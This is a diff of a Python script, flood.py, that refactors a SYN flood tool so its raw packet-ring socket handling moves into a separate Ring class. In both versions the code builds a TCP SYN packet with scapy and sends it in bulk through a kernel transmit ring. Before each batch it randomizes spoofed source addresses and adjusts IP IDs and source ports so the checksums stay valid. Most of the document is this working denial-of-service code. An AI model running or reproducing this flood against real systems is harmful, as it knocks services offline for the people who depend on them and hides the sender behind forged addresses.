@@ -2,24 +2,20 @@
 # SPDX-License-Identifier: GPL-2.0
 """A SYN flood with sources from everywhere: flood.py COUNT, rounded up to a whole ring.
 
-The packets lie in a ring that is shared with the kernel (packet(7), PACKET_TX_RING) and are sent a
-ring at a time, so nearly all of the work is the network's. Before each, the low half of every source
-address gets new random bits; IP's identification and the source port get their complement, so no
-checksum changes.
+They are sent a ring at a time, so nearly all of the work is the network's. Before each, the low half
+of every source address gets new random bits; IP's identification and the source port get their
+complement, so no checksum changes.
 """
 
-import mmap
 import os
 import random
-import socket
 import struct
 import sys
 
+from ring import Ring
 from scapy.all import IP, TCP, Ether, conf, getmacbyip
 
-SOL_PACKET, PACKET_VERSION, PACKET_TX_RING, TPACKET_V2 = 263, 10, 13, 1
-FRAMES, SIZE, HEADER = 1024, 128, 32
-BLOCK = 4096
+FRAMES = 1024
 # Of the Ethernet frame.
 ID, IP_SUM, SOURCE, PORT, TCP_SUM = 18, 24, 26, 34, 50
 
@@ -32,13 +28,7 @@ packet = Ether(dst=mac) / IP(src="0.0.0.0", dst=VIP, id=0xFFFF) / TCP(sport=0xFF
 packet = bytearray(bytes(packet))
 sums = [struct.unpack_from("!H", packet, at)[0] for at in (IP_SUM, TCP_SUM)]
 
-sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
-sock.bind(("eth0", 0x800))
-sock.setsockopt(SOL_PACKET, PACKET_VERSION, TPACKET_V2)
-ring = struct.pack("IIII", BLOCK, FRAMES * SIZE // BLOCK, SIZE, FRAMES)
-sock.setsockopt(SOL_PACKET, PACKET_TX_RING, ring)
-ring = memoryview(mmap.mmap(sock.fileno(), FRAMES * SIZE))
-
+ring = Ring(FRAMES, 128)
 rng = random.Random(1)
 for n in range(FRAMES):
     # Half an address that can be a client's: not this network, loopback or multicast.
@@ -46,22 +36,13 @@ for n in range(FRAMES):
     struct.pack_into("!H", packet, SOURCE, half)
     for at, total in zip((IP_SUM, TCP_SUM), sums):
         struct.pack_into("!H", packet, at, (total - half) % 0xFFFF)
-    start = n * SIZE
-    struct.pack_into("II", ring, start + 4, len(packet), len(packet))
-    ring[start + HEADER : start + HEADER + len(packet)] = packet
+    ring.put(n, packet)
 
-
-def column(at):
-    return ring[at::SIZE]
-
-
-ready = b"\1" * FRAMES
 complement = bytes(255 - byte for byte in range(256))
 for _ in range(-(-count // FRAMES)):
     for byte in (0, 1):
         low = os.urandom(FRAMES)
-        column(HEADER + SOURCE + 2 + byte)[:] = low
+        ring.column(SOURCE + 2 + byte)[:] = low
         for at in (ID, PORT):
-            column(HEADER + at + byte)[:] = low.translate(complement)
-    column(0)[:] = ready
-    sock.send(b"")
+            ring.column(at + byte)[:] = low.translate(complement)
+    ring.send()
